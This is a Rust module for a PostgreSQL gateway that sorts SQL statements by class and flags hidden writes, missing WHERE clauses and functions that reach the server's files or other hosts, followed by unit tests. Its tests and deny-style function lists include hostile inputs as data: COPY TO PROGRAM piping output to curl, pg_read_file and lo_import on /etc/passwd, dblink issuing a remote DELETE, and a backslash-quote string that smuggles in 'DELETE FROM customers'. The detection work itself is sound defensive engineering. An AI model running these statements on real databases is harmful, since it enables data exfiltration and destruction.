//! Statement analysis: class, command name, tables touched, hidden writes, missing WHERE.

use pg_query::protobuf::ObjectType;
use pg_query::{NodeEnum, NodeRef};
use serde::{Deserialize, Serialize};

/// The broad kind of a statement, which policy speaks in.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum StatementClass {
    Read,
    Write,
    Ddl,
    Dcl,
    Transaction,
    Utility,
    /// Code run inside the database: `DO` blocks and procedure calls.
    Procedural,
    /// Reaches outside the database: the server's files and programs (`COPY` to or from a
    /// file or a program, `pg_read_file`, server-side `lo_import`/`lo_export`) and other
    /// servers (`dblink`). Denied unless access policy permits it.
    External,
}

impl StatementClass {
    pub fn as_str(self) -> &'static str {
        match self {
            StatementClass::Read => "read",
            StatementClass::Write => "write",
            StatementClass::Ddl => "ddl",
            StatementClass::Dcl => "dcl",
            StatementClass::Transaction => "transaction",
            StatementClass::Utility => "utility",
            StatementClass::Procedural => "procedural",
            StatementClass::External => "external",
        }
    }
}

impl std::fmt::Display for StatementClass {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

/// One statement of a message.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Statement {
    pub class: StatementClass,
    /// Upper-case command name: `SELECT`, `DELETE`, `DROP TABLE`, `DROP DATABASE`, ...
    pub command: String,
    /// Relations touched, `schema.table` when written qualified; CTE names excluded.
    pub tables: Vec<String>,
    /// An UPDATE or DELETE without WHERE, anywhere in the statement.
    pub missing_where: bool,
    /// The statement can change data (a write, a data-modifying CTE, DO, CALL).
    pub writes: bool,
    /// Data-changing commands found at any depth (`DELETE` inside a `WITH`, ...), so a rule
    /// about DELETE also catches the one hidden in a SELECT.
    pub inner_commands: Vec<String>,
    /// Classes the statement takes on through the functions it calls (`utility` for
    /// `pg_terminate_backend`, `dcl` for `set_config('role', ...)`, `external` for
    /// `pg_read_file`, ...): it is decided under each of them as well as its own class.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub effects: Vec<StatementClass>,
    /// What the statement does with the session's prepared statements, which share one
    /// namespace with the extended protocol's.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub prepared: Option<PreparedUse>,
}

/// A statement's use of the session's prepared statements.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum PreparedUse {
    /// `PREPARE name AS body`: once it succeeds, `name` runs `body`.
    Prepare { name: String, body: Box<Statement> },
    /// `EXECUTE name`: runs whatever `name` is in the session at that moment.
    Execute { name: String },
    /// `DEALLOCATE name`.
    Deallocate { name: String },
    /// `DEALLOCATE ALL`, or `DISCARD ALL` (which also drops portals).
    DeallocateAll,
}

/// Every statement of a message, or why it could not be read.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize)]
pub struct Analysis {
    pub statements: Vec<Statement>,
    /// The parser's message when the text is not valid SQL.
    pub unparsed: Option<String>,
    /// The parser's error, as the server would report it, when the parser rejected the text
    /// (not when the parser itself failed).
    pub syntax_error: Option<crate::SyntaxError>,
}

impl Analysis {
    pub fn is_multi(&self) -> bool {
        self.statements.len() > 1
    }

    /// Every class the statements are decided under: each one's own class, then the
    /// classes its function calls add.
    pub fn classes(&self) -> impl Iterator<Item = StatementClass> + '_ {
        self.statements
            .iter()
            .flat_map(|s| std::iter::once(s.class).chain(s.effects.iter().copied()))
    }
}

/// How the server splits and quotes SQL text in a session: the settings that change which
/// tokens a text is made of. The gateway takes them from what the server reports
/// (ParameterStatus), never from what a client asked for, and parses in the same mode.
///
/// `backslash_quote` needs no mode of its own: where it is off the server refuses `\'`
/// outright, so reading it as allowed never lets through what the server would run
/// differently. Client encodings in which a multibyte character can contain `\` or `'`
/// are refused by the session instead of being read here.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default)]
pub struct Lexical {
    /// `standard_conforming_strings` is off: a backslash escapes in every `'...'` literal.
    pub backslash_escapes: bool,
}

impl Lexical {
    fn parser_options(self) -> pg_query::ParserOptions {
        if self.backslash_escapes {
            pg_query::ParserOptions::DISABLE_STANDARD_CONFORMING_STRINGS
        } else {
            pg_query::ParserOptions::DEFAULT
        }
    }

    /// The other reading of string literals.
    fn flipped(self) -> Lexical {
        Lexical {
            backslash_escapes: !self.backslash_escapes,
        }
    }
}

/// Parses `sql` the way the server does under `lexical`.
pub(crate) fn parse(sql: &str, lexical: Lexical) -> pg_query::Result<pg_query::ParseResult> {
    pg_query::parse(sql, lexical.parser_options())
}

/// Whether `sql` is made of the same statements, with the same structure, whether or not
/// backslashes escape in string literals (only literal values may differ). A text without
/// a backslash always is. When the session's setting may be changing under statements
/// still in flight, a text that is not read alike cannot be decided safely.
pub fn reads_alike(sql: &str) -> bool {
    // A `U&'...'` string is an error without standard strings, backslash or not.
    let unicode_strings = sql
        .as_bytes()
        .windows(3)
        .any(|w| w[0].eq_ignore_ascii_case(&b'u') && w[1] == b'&' && w[2] == b'\'');
    if !sql.contains('\\') && !unicode_strings {
        return true;
    }
    let standard = Lexical::default();
    std::panic::catch_unwind(|| structure(sql, standard) == structure(sql, standard.flipped()))
        .unwrap_or(false)
}

/// The parse tree of `sql` without what a literal's reading may change: constants'
/// values and the positions of everything. `None` when it does not parse.
fn structure(sql: &str, lexical: Lexical) -> Option<serde_json::Value> {
    fn strip(value: &mut serde_json::Value) {
        match value {
            serde_json::Value::Object(map) => {
                map.remove("location");
                for (key, child) in map.iter_mut() {
                    if key == "AConst" {
                        *child = serde_json::Value::Null;
                    } else {
                        strip(child);
                    }
                }
            }
            serde_json::Value::Array(items) => items.iter_mut().for_each(strip),
            _ => {}
        }
    }
    let parsed = parse(sql, lexical).ok()?;
    let mut tree = serde_json::to_value(&parsed.protobuf.stmts).ok()?;
    strip(&mut tree);
    Some(tree)
}

/// Reads `sql` (one or more statements) as the server does with standard conforming
/// strings. Never panics: a parser failure, or a panic inside the parser bindings, is
/// reported as unparsed text.
pub fn analyze(sql: &str) -> Analysis {
    analyze_with(sql, Lexical::default())
}

/// [`analyze`] under the session's lexical settings.
pub fn analyze_with(sql: &str, lexical: Lexical) -> Analysis {
    match std::panic::catch_unwind(|| analyze_inner(sql, lexical)) {
        Ok(analysis) => analysis,
        Err(_) => Analysis {
            statements: Vec::new(),
            unparsed: Some("the SQL parser failed on this text".into()),
            syntax_error: None,
        },
    }
}

fn analyze_inner(sql: &str, lexical: Lexical) -> Analysis {
    let parsed = match parse(sql, lexical) {
        Ok(p) => p,
        Err(e) => {
            let syntax_error = match &e {
                pg_query::Error::Parse(message) => {
                    Some(crate::SyntaxError::new(sql, lexical, message))
                }
                _ => None,
            };
            return Analysis {
                statements: Vec::new(),
                unparsed: Some(e.to_string()),
                syntax_error,
            };
        }
    };
    let statements = parsed
        .protobuf
        .stmts
        .iter()
        .filter_map(|raw| raw.stmt.as_ref().and_then(|s| s.node.as_ref()))
        .map(statement)
        .collect();
    Analysis {
        statements,
        unparsed: None,
        syntax_error: None,
    }
}

fn statement(node: &NodeEnum) -> Statement {
    let (class, command) = classify(node);
    let mut tables: Vec<String> = Vec::new();
    let mut ctes: Vec<String> = Vec::new();
    let mut missing_where = false;
    let mut nested_write = false;
    let mut inner: Vec<String> = Vec::new();
    let mut effects: Vec<StatementClass> = Vec::new();
    let note = |inner: &mut Vec<String>, c: &str| {
        if !inner.iter().any(|x| x == c) {
            inner.push(c.to_string());
        }
    };
    let add = |tables: &mut Vec<String>, name: String| {
        if !tables.contains(&name) {
            tables.push(name);
        }
    };
    for (child, _, _, _) in node.nodes() {
        match child {
            NodeRef::CommonTableExpr(c) => ctes.push(c.ctename.clone()),
            NodeRef::RangeVar(v) => {
                let name = if v.schemaname.is_empty() {
                    v.relname.clone()
                } else {
                    format!("{}.{}", v.schemaname, v.relname)
                };
                add(&mut tables, name);
            }
            NodeRef::UpdateStmt(u) => {
                nested_write = true;
                missing_where |= u.where_clause.is_none();
                note(&mut inner, "UPDATE");
            }
            NodeRef::DeleteStmt(d) => {
                nested_write = true;
                missing_where |= d.where_clause.is_none();
                note(&mut inner, "DELETE");
            }
            NodeRef::InsertStmt(_) => {
                nested_write = true;
                note(&mut inner, "INSERT");
            }
            NodeRef::MergeStmt(_) => {
                nested_write = true;
                note(&mut inner, "MERGE");
            }
            NodeRef::FuncCall(f) => {
                if let Some((name, effect)) = function_effect(f) {
                    note(&mut inner, &name);
                    if !effects.contains(&effect) {
                        effects.push(effect);
                    }
                }
            }
            _ => {}
        }
    }
    if let NodeEnum::DropStmt(d) = node
        && d.remove_type == ObjectType::ObjectTable as i32
    {
        for object in &d.objects {
            if let Some(NodeEnum::List(list)) = &object.node {
                let parts: Vec<&str> = list
                    .items
                    .iter()
                    .filter_map(|i| match &i.node {
                        Some(NodeEnum::String(s)) => Some(s.sval.as_str()),
                        _ => None,
                    })
                    .collect();
                add(&mut tables, parts.join("."));
            }
        }
    }
    // A CTE name is not a relation (unless a real table of that name is also used
    // qualified, which then carries its schema).
    tables.retain(|t| !ctes.contains(t));
    let risky_code = matches!(node, NodeEnum::DoStmt(_) | NodeEnum::CallStmt(_));
    let class = if nested_write && matches!(class, StatementClass::Read) {
        StatementClass::Write
    } else {
        class
    };
    effects.retain(|e| *e != class);
    Statement {
        writes: nested_write || risky_code || class == StatementClass::Write,
        class,
        command,
        tables,
        missing_where,
        inner_commands: inner,
        effects,
        prepared: prepared_use(node),
    }
}

/// Functions that do more than read: reach outside the database, act on other sessions
/// or the server, or change data. Matched by their name's last part, case-insensitively
/// (a function of the same name in another schema is treated alike: safer than not).
const EXTERNAL_FUNCTIONS: [&str; 21] = [
    "pg_read_file",
    "pg_read_binary_file",
    "pg_ls_dir",
    "pg_stat_file",
    "pg_ls_logdir",
    "pg_ls_waldir",
    "pg_ls_tmpdir",
    "pg_ls_archive_statusdir",
    "pg_ls_logicalsnapdir",
    "pg_ls_replslotdir",
    "lo_import",
    "lo_export",
    "dblink",
    "dblink_exec",
    "dblink_connect",
    "dblink_connect_u",
    "dblink_send_query",
    "dblink_open",
    "pg_file_write",
    "pg_file_rename",
    "pg_file_unlink",
];

const UTILITY_FUNCTIONS: [&str; 21] = [
    "pg_terminate_backend",
    "pg_cancel_backend",
    "pg_reload_conf",
    "pg_rotate_logfile",
    "pg_promote",
    "pg_switch_wal",
    "pg_create_restore_point",
    "pg_backup_start",
    "pg_backup_stop",
    "pg_start_backup",
    "pg_stop_backup",
    "pg_wal_replay_pause",
    "pg_wal_replay_resume",
    "pg_create_physical_replication_slot",
    "pg_create_logical_replication_slot",
    "pg_drop_replication_slot",
    "pg_log_backend_memory_contexts",
    "pg_stat_reset",
    "pg_stat_reset_shared",
    "pg_notify",
    "pg_import_system_collations",
];

const WRITE_FUNCTIONS: [&str; 9] = [
    "setval",
    "lo_create",
    "lo_creat",
    "lo_unlink",
    "lo_put",
    "lowrite",
    "lo_truncate",
    "lo_truncate64",
    "lo_from_bytea",
];

/// The class a function call adds to its statement, with the function's name.
fn function_effect(f: &pg_query::protobuf::FuncCall) -> Option<(String, StatementClass)> {
    let name = match f.funcname.last().and_then(|n| n.node.as_ref()) {
        Some(NodeEnum::String(s)) => s.sval.to_ascii_lowercase(),
        _ => return None,
    };
    let effect = if EXTERNAL_FUNCTIONS.contains(&name.as_str()) {
        StatementClass::External
    } else if UTILITY_FUNCTIONS.contains(&name.as_str()) {
        StatementClass::Utility
    } else if WRITE_FUNCTIONS.contains(&name.as_str()) {
        StatementClass::Write
    } else if name == "set_config" {
        // Like SET: a setting of the session, unless it is who the session is (or the
        // setting is not written out, so it could be).
        let setting = f.args.first().and_then(|a| match a.node.as_ref() {
            Some(NodeEnum::AConst(c)) => match &c.val {
                Some(pg_query::protobuf::a_const::Val::Sval(s)) => {
                    Some(s.sval.to_ascii_lowercase())
                }
                _ => None,
            },
            _ => None,
        });
        match setting.as_deref() {
            Some("role") | Some("session_authorization") | None => StatementClass::Dcl,
            Some(_) => StatementClass::Utility,
        }
    } else {
        return None;
    };
    Some((name, effect))
}

fn prepared_use(node: &NodeEnum) -> Option<PreparedUse> {
    use pg_query::protobuf::DiscardMode;
    match node {
        NodeEnum::PrepareStmt(p) => {
            let body = p.query.as_ref().and_then(|q| q.node.as_ref())?;
            Some(PreparedUse::Prepare {
                name: p.name.clone(),
                body: Box::new(statement(body)),
            })
        }
        NodeEnum::ExecuteStmt(e) => Some(PreparedUse::Execute {
            name: e.name.clone(),
        }),
        // `EXPLAIN ANALYZE EXECUTE s` and `CREATE TABLE t AS EXECUTE s` run `s` too.
        NodeEnum::ExplainStmt(e) => e
            .query
            .as_ref()
            .and_then(|q| q.node.as_ref())
            .and_then(prepared_use)
            .filter(|u| matches!(u, PreparedUse::Execute { .. })),
        NodeEnum::CreateTableAsStmt(c) => c
            .query
            .as_ref()
            .and_then(|q| q.node.as_ref())
            .and_then(prepared_use)
            .filter(|u| matches!(u, PreparedUse::Execute { .. })),
        NodeEnum::DeallocateStmt(d) if d.isall || d.name.is_empty() => {
            Some(PreparedUse::DeallocateAll)
        }
        NodeEnum::DeallocateStmt(d) => Some(PreparedUse::Deallocate {
            name: d.name.clone(),
        }),
        NodeEnum::DiscardStmt(d) if d.target == DiscardMode::DiscardAll as i32 => {
            Some(PreparedUse::DeallocateAll)
        }
        _ => None,
    }
}

/// The class and command name of a top-level statement.
fn classify(node: &NodeEnum) -> (StatementClass, String) {
    use StatementClass::*;
    let (class, command): (StatementClass, &str) = match node {
        NodeEnum::SelectStmt(s) if s.into_clause.is_some() => (Write, "SELECT INTO"),
        NodeEnum::SelectStmt(_) => (Read, "SELECT"),
        NodeEnum::VariableShowStmt(_) => (Read, "SHOW"),
        NodeEnum::InsertStmt(_) => (Write, "INSERT"),
        NodeEnum::UpdateStmt(_) => (Write, "UPDATE"),
        NodeEnum::DeleteStmt(_) => (Write, "DELETE"),
        NodeEnum::MergeStmt(_) => (Write, "MERGE"),
        NodeEnum::TruncateStmt(_) => (Write, "TRUNCATE"),
        // To or from a file or a program on the server's host, not the client.
        NodeEnum::CopyStmt(c) if !c.filename.is_empty() || c.is_program => {
            (External, if c.is_from { "COPY FROM" } else { "COPY TO" })
        }
        NodeEnum::CopyStmt(c) if c.is_from => (Write, "COPY FROM"),
        NodeEnum::CopyStmt(_) => (Read, "COPY TO"),
        NodeEnum::CreateTableAsStmt(_) => (Ddl, "CREATE TABLE AS"),
        NodeEnum::ExplainStmt(e) => {
            let analyze = e.options.iter().any(|o| {
                matches!(&o.node, Some(NodeEnum::DefElem(d)) if d.defname.eq_ignore_ascii_case("analyze"))
            });
            match e.query.as_ref().and_then(|q| q.node.as_ref()) {
                // EXPLAIN ANALYZE runs the statement.
                Some(inner) if analyze => {
                    let (class, _) = classify(inner);
                    (class, "EXPLAIN ANALYZE")
                }
                _ => (Read, "EXPLAIN"),
            }
        }
        // The body's command is among the statement's inner commands (see `statement`).
        NodeEnum::PrepareStmt(p) => match p.query.as_ref().and_then(|q| q.node.as_ref()) {
            Some(inner) => (classify(inner).0, "PREPARE"),
            None => (Utility, "PREPARE"),
        },
        NodeEnum::TransactionStmt(_) => (Transaction, "TRANSACTION"),
        NodeEnum::GrantStmt(g) => (Dcl, if g.is_grant { "GRANT" } else { "REVOKE" }),
        NodeEnum::GrantRoleStmt(g) => (
            Dcl,
            if g.is_grant {
                "GRANT ROLE"
            } else {
                "REVOKE ROLE"
            },
        ),
        NodeEnum::CreateRoleStmt(_) => (Dcl, "CREATE ROLE"),
        NodeEnum::AlterRoleStmt(_) | NodeEnum::AlterRoleSetStmt(_) => (Dcl, "ALTER ROLE"),
        NodeEnum::DropRoleStmt(_) => (Dcl, "DROP ROLE"),
        NodeEnum::AlterOwnerStmt(_) => (Dcl, "ALTER OWNER"),
        NodeEnum::AlterDefaultPrivilegesStmt(_) => (Dcl, "ALTER DEFAULT PRIVILEGES"),
        NodeEnum::AlterTableStmt(a) => {
            // AT_ChangeOwner hands a table to someone else: a privilege change.
            let owner = a.cmds.iter().any(
                |c| matches!(&c.node, Some(NodeEnum::AlterTableCmd(cmd)) if cmd.newowner.is_some()),
            );
            if owner {
                (Dcl, "ALTER TABLE OWNER")
            } else {
                (Ddl, "ALTER TABLE")
            }
        }
        NodeEnum::DropdbStmt(_) => (Ddl, "DROP DATABASE"),
        NodeEnum::CreatedbStmt(_) => (Ddl, "CREATE DATABASE"),
        NodeEnum::DropStmt(d) => (Ddl, drop_command(d.remove_type)),
        NodeEnum::CreateStmt(_) => (Ddl, "CREATE TABLE"),
        NodeEnum::IndexStmt(_) => (Ddl, "CREATE INDEX"),
        NodeEnum::ViewStmt(_) => (Ddl, "CREATE VIEW"),
        NodeEnum::CreateSchemaStmt(_) => (Ddl, "CREATE SCHEMA"),
        NodeEnum::CreateFunctionStmt(_) => (Ddl, "CREATE FUNCTION"),
        NodeEnum::RenameStmt(_) => (Ddl, "RENAME"),
        NodeEnum::CommentStmt(_) => (Ddl, "COMMENT"),
        NodeEnum::VariableSetStmt(v) => variable_set(v),
        NodeEnum::ListenStmt(_) => (Utility, "LISTEN"),
        NodeEnum::UnlistenStmt(_) => (Utility, "UNLISTEN"),
        NodeEnum::NotifyStmt(_) => (Utility, "NOTIFY"),
        NodeEnum::DiscardStmt(_) => (Utility, "DISCARD"),
        NodeEnum::DeallocateStmt(_) => (Utility, "DEALLOCATE"),
        NodeEnum::ExecuteStmt(_) => (Utility, "EXECUTE"),
        NodeEnum::VacuumStmt(_) => (Utility, "VACUUM"),
        NodeEnum::CheckPointStmt(_) => (Utility, "CHECKPOINT"),
        NodeEnum::LockStmt(_) => (Utility, "LOCK"),
        NodeEnum::DoStmt(_) => (Procedural, "DO"),
        NodeEnum::CallStmt(_) => (Procedural, "CALL"),
        NodeEnum::DeclareCursorStmt(_) => (Read, "DECLARE CURSOR"),
        NodeEnum::FetchStmt(_) => (Read, "FETCH"),
        NodeEnum::ClosePortalStmt(_) => (Utility, "CLOSE"),
        // Everything else that creates, alters or defines objects.
        _ => (Ddl, "OTHER DDL"),
    };
    (class, command.to_string())
}

/// `SET`, and the forms that change who the session is: `SET ROLE`, `SET SESSION
/// AUTHORIZATION` and their `RESET`s are privilege changes with commands of their own.
fn variable_set(v: &pg_query::protobuf::VariableSetStmt) -> (StatementClass, &'static str) {
    use pg_query::protobuf::VariableSetKind;
    let reset = matches!(
        VariableSetKind::try_from(v.kind),
        Ok(VariableSetKind::VarReset | VariableSetKind::VarResetAll)
    );
    match (v.name.to_ascii_lowercase().as_str(), reset) {
        ("role", false) => (StatementClass::Dcl, "SET ROLE"),
        ("role", true) => (StatementClass::Dcl, "RESET ROLE"),
        ("session_authorization", false) => (StatementClass::Dcl, "SET SESSION AUTHORIZATION"),
        ("session_authorization", true) => (StatementClass::Dcl, "RESET SESSION AUTHORIZATION"),
        (_, true) => (StatementClass::Utility, "RESET"),
        _ => (StatementClass::Utility, "SET"),
    }
}

fn drop_command(remove_type: i32) -> &'static str {
    match ObjectType::try_from(remove_type) {
        Ok(ObjectType::ObjectTable) => "DROP TABLE",
        Ok(ObjectType::ObjectIndex) => "DROP INDEX",
        Ok(ObjectType::ObjectView) => "DROP VIEW",
        Ok(ObjectType::ObjectSchema) => "DROP SCHEMA",
        Ok(ObjectType::ObjectFunction) => "DROP FUNCTION",
        Ok(ObjectType::ObjectSequence) => "DROP SEQUENCE",
        Ok(ObjectType::ObjectMatview) => "DROP MATERIALIZED VIEW",
        Ok(ObjectType::ObjectExtension) => "DROP EXTENSION",
        Ok(ObjectType::ObjectType) => "DROP TYPE",
        _ => "DROP",
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use StatementClass::*;

    fn one(sql: &str) -> Statement {
        let a = analyze(sql);
        assert!(a.unparsed.is_none(), "{sql}: {:?}", a.unparsed);
        assert_eq!(a.statements.len(), 1, "{sql}");
        a.statements[0].clone()
    }

    #[test]
    fn classes_and_commands() {
        let cases: &[(&str, StatementClass, &str)] = &[
            ("SELECT 1", Read, "SELECT"),
            ("select * from t where a = $1", Read, "SELECT"),
            ("VALUES (1), (2)", Read, "SELECT"),
            ("TABLE customers", Read, "SELECT"),
            ("SHOW search_path", Read, "SHOW"),
            ("SELECT * FROM t FOR UPDATE", Read, "SELECT"),
            ("SELECT * INTO newtable FROM t", Write, "SELECT INTO"),
            ("INSERT INTO t VALUES (1)", Write, "INSERT"),
            ("UPDATE t SET a = 1 WHERE id = 2", Write, "UPDATE"),
            ("DELETE FROM t WHERE id = 2", Write, "DELETE"),
            (
                "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
                Write,
                "MERGE",
            ),
            ("TRUNCATE t", Write, "TRUNCATE"),
            ("COPY t FROM STDIN", Write, "COPY FROM"),
            ("COPY t TO STDOUT", Read, "COPY TO"),
            ("COPY (SELECT 1) TO STDOUT", Read, "COPY TO"),
            (
                "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
                Write,
                "SELECT",
            ),
            ("EXPLAIN SELECT 1", Read, "EXPLAIN"),
            ("EXPLAIN ANALYZE DELETE FROM t", Write, "EXPLAIN ANALYZE"),
            ("CREATE TABLE t (id int)", Ddl, "CREATE TABLE"),
            ("CREATE TABLE t2 AS SELECT 1", Ddl, "CREATE TABLE AS"),
            ("ALTER TABLE t ADD COLUMN b int", Ddl, "ALTER TABLE"),
            ("ALTER TABLE t OWNER TO mallory", Dcl, "ALTER TABLE OWNER"),
            ("DROP TABLE t", Ddl, "DROP TABLE"),
            ("DROP DATABASE prod", Ddl, "DROP DATABASE"),
            ("drop   database   \"prod\"", Ddl, "DROP DATABASE"),
            ("DROP INDEX i", Ddl, "DROP INDEX"),
            ("CREATE INDEX i ON t (a)", Ddl, "CREATE INDEX"),
            ("CREATE VIEW v AS SELECT 1", Ddl, "CREATE VIEW"),
            ("COMMENT ON TABLE t IS 'x'", Ddl, "COMMENT"),
            ("GRANT SELECT ON t TO bob", Dcl, "GRANT"),
            ("REVOKE SELECT ON t FROM bob", Dcl, "REVOKE"),
            ("CREATE ROLE bob LOGIN", Dcl, "CREATE ROLE"),
            ("ALTER ROLE bob SUPERUSER", Dcl, "ALTER ROLE"),
            ("DROP ROLE bob", Dcl, "DROP ROLE"),
            (
                "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob",
                Dcl,
                "ALTER DEFAULT PRIVILEGES",
            ),
            ("BEGIN", Transaction, "TRANSACTION"),
            ("COMMIT", Transaction, "TRANSACTION"),
            ("ROLLBACK TO SAVEPOINT s", Transaction, "TRANSACTION"),
            ("SET search_path = public", Utility, "SET"),
            ("LISTEN ch", Utility, "LISTEN"),
            ("NOTIFY ch, 'x'", Utility, "NOTIFY"),
            ("VACUUM t", Utility, "VACUUM"),
            ("DO $$ BEGIN DELETE FROM t; END $$", Procedural, "DO"),
            ("CALL p()", Procedural, "CALL"),
            ("SET ROLE admin", Dcl, "SET ROLE"),
            ("RESET ROLE", Dcl, "RESET ROLE"),
            (
                "SET SESSION AUTHORIZATION bob",
                Dcl,
                "SET SESSION AUTHORIZATION",
            ),
            (
                "RESET SESSION AUTHORIZATION",
                Dcl,
                "RESET SESSION AUTHORIZATION",
            ),
            ("RESET search_path", Utility, "RESET"),
            ("RESET ALL", Utility, "RESET"),
            ("COPY t FROM '/etc/passwd'", External, "COPY FROM"),
            ("COPY t TO '/tmp/out.csv'", External, "COPY TO"),
            (
                "COPY (SELECT 1) TO PROGRAM 'curl -d @- x'",
                External,
                "COPY TO",
            ),
            ("PREPARE q AS DELETE FROM t", Write, "PREPARE"),
            ("EXECUTE q", Utility, "EXECUTE"),
            ("DEALLOCATE q", Utility, "DEALLOCATE"),
        ];
        for (sql, class, command) in cases {
            let s = one(sql);
            assert_eq!((s.class, s.command.as_str()), (*class, *command), "{sql}");
        }
    }

    #[test]
    fn writes_and_missing_where_are_found_anywhere() {
        assert!(one("DELETE FROM t").missing_where);
        assert!(!one("DELETE FROM t WHERE id = 1").missing_where);
        assert!(one("UPDATE t SET a = 1").missing_where);
        assert!(one("WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM x").missing_where);
        assert!(one("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x").writes);
        assert_eq!(
            one("WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x").inner_commands,
            vec!["DELETE"]
        );
        assert!(one("DO $$ BEGIN PERFORM 1; END $$").writes);
        assert!(!one("SELECT * FROM t FOR UPDATE").writes);
        assert!(
            !one("SELECT nextval('s')").writes,
            "functions are not analysed"
        );
    }

    #[test]
    fn functions_with_effects_add_their_class() {
        let cases: &[(&str, StatementClass, &[StatementClass])] = &[
            ("SELECT pg_read_file('/etc/passwd')", Read, &[External]),
            ("SELECT lo_import('/etc/passwd')", Read, &[External]),
            (
                "SELECT * FROM dblink('host=x', 'DELETE FROM t') AS r(a int)",
                Read,
                &[External],
            ),
            ("SELECT pg_terminate_backend(42)", Read, &[Utility]),
            (
                "SELECT pg_catalog.set_config('search_path', '', false)",
                Read,
                &[Utility],
            ),
            ("SELECT set_config('role', 'admin', false)", Read, &[Dcl]),
            ("SELECT set_config('ROLE', 'admin', false)", Read, &[Dcl]),
            (
                "SELECT set_config(current_setting('x'), 'admin', false)",
                Read,
                &[Dcl],
            ),
            ("SELECT setval('s', 1)", Read, &[Write]),
            ("UPDATE t SET a = setval('s', 1) WHERE id = 1", Write, &[]),
            ("SELECT lower(name) FROM t", Read, &[]),
        ];
        for (sql, class, effects) in cases {
            let s = one(sql);
            assert_eq!((s.class, s.effects.as_slice()), (*class, *effects), "{sql}");
        }
        let s = one("SELECT pg_terminate_backend(pid) FROM pg_stat_activity");
        assert!(
            s.inner_commands
                .contains(&"pg_terminate_backend".to_string())
        );
        assert_eq!(
            analyze("SELECT pg_read_file('x'); SELECT 1")
                .classes()
                .collect::<Vec<_>>(),
            [Read, External, Read]
        );
    }

    #[test]
    fn tables_exclude_cte_names_and_keep_schemas() {
        let s = one(
            "WITH recent AS (SELECT * FROM sales.orders) SELECT * FROM recent r JOIN public.customers c ON c.id = r.customer_id WHERE c.id IN (SELECT id FROM vip)",
        );
        assert_eq!(s.tables.len(), 3, "{:?}", s.tables);
        assert!(!s.tables.contains(&"recent".to_string()), "{:?}", s.tables);
        for t in ["sales.orders", "public.customers", "vip"] {
            assert!(s.tables.contains(&t.to_string()), "{t} in {:?}", s.tables);
        }
        assert_eq!(
            one("DROP TABLE app.secrets, logs").tables,
            vec!["app.secrets", "logs"]
        );
        assert_eq!(
            one("INSERT INTO \"Quoted\" SELECT * FROM src").tables.len(),
            2
        );
        assert_eq!(one("TRUNCATE t").tables, vec!["t"]);
    }

    #[test]
    fn backslashes_are_read_as_the_session_reads_them() {
        // The reviewer's reproduction: with standard strings the backslash is a plain
        // character and the rest a comment; without, it escapes the quote and a DELETE
        // follows.
        let sql = r"SELECT 'a\' -- '; DELETE FROM customers; --";
        let standard = analyze(sql);
        assert_eq!(standard.statements.len(), 1);
        let escaping = analyze_with(
            sql,
            Lexical {
                backslash_escapes: true,
            },
        );
        let commands: Vec<&str> = escaping
            .statements
            .iter()
            .map(|s| s.command.as_str())
            .collect();
        assert_eq!(commands, ["SELECT", "DELETE"]);
        assert!(escaping.statements[1].missing_where);
        assert!(!reads_alike(sql));
        assert!(!reads_alike(r"SELECT 'a\', 1 -- '"));
        // Only a literal's value differs: the same statement either way.
        assert!(reads_alike(r"SELECT * FROM t WHERE path = 'C:\temp'"));
        assert!(reads_alike(r"SELECT E'a\'b'"));
        assert!(reads_alike("SELECT 1"));
        // A Unicode-escape string cannot be read at all without standard strings.
        assert!(!reads_alike("SELECT U&'a'"));
        assert!(reads_alike("SELECT U&\"col\" FROM t"));
        // A text that the flipped reading cannot parse at all is not alike either.
        assert!(!reads_alike(r"SELECT 'a\'"));
    }

    #[test]
    fn prepared_statement_names_are_read() {
        let Some(PreparedUse::Prepare { name, body }) = one("PREPARE s AS DELETE FROM t").prepared
        else {
            panic!("a PREPARE names its statement");
        };
        assert_eq!((name.as_str(), body.command.as_str()), ("s", "DELETE"));
        assert!(body.missing_where);
        assert_eq!(
            one("EXECUTE s (1)").prepared,
            Some(PreparedUse::Execute { name: "s".into() })
        );
        assert_eq!(
            one("DEALLOCATE PREPARE s").prepared,
            Some(PreparedUse::Deallocate { name: "s".into() })
        );
        for all in ["DEALLOCATE ALL", "DISCARD ALL"] {
            assert_eq!(one(all).prepared, Some(PreparedUse::DeallocateAll), "{all}");
        }
        assert_eq!(one("DISCARD PLANS").prepared, None);
        for wrapped in ["EXPLAIN ANALYZE EXECUTE s", "CREATE TABLE x AS EXECUTE s"] {
            assert_eq!(
                one(wrapped).prepared,
                Some(PreparedUse::Execute { name: "s".into() }),
                "{wrapped}"
            );
        }
        assert_eq!(one("SELECT 1").prepared, None);
    }

    #[test]
    fn several_statements_empty_text_and_garbage() {
        let a = analyze("BEGIN; UPDATE t SET a = 1; COMMIT");
        assert!(a.is_multi());
        assert_eq!(
            a.classes().collect::<Vec<_>>(),
            vec![Transaction, Write, Transaction]
        );
        assert!(analyze("").statements.is_empty());
        assert!(analyze("-- just a comment").statements.is_empty());
        let bad = analyze("SELEC 1");
        assert!(bad.unparsed.is_some());
        assert!(analyze("SELECT 1\0").unparsed.is_some());
    }
}
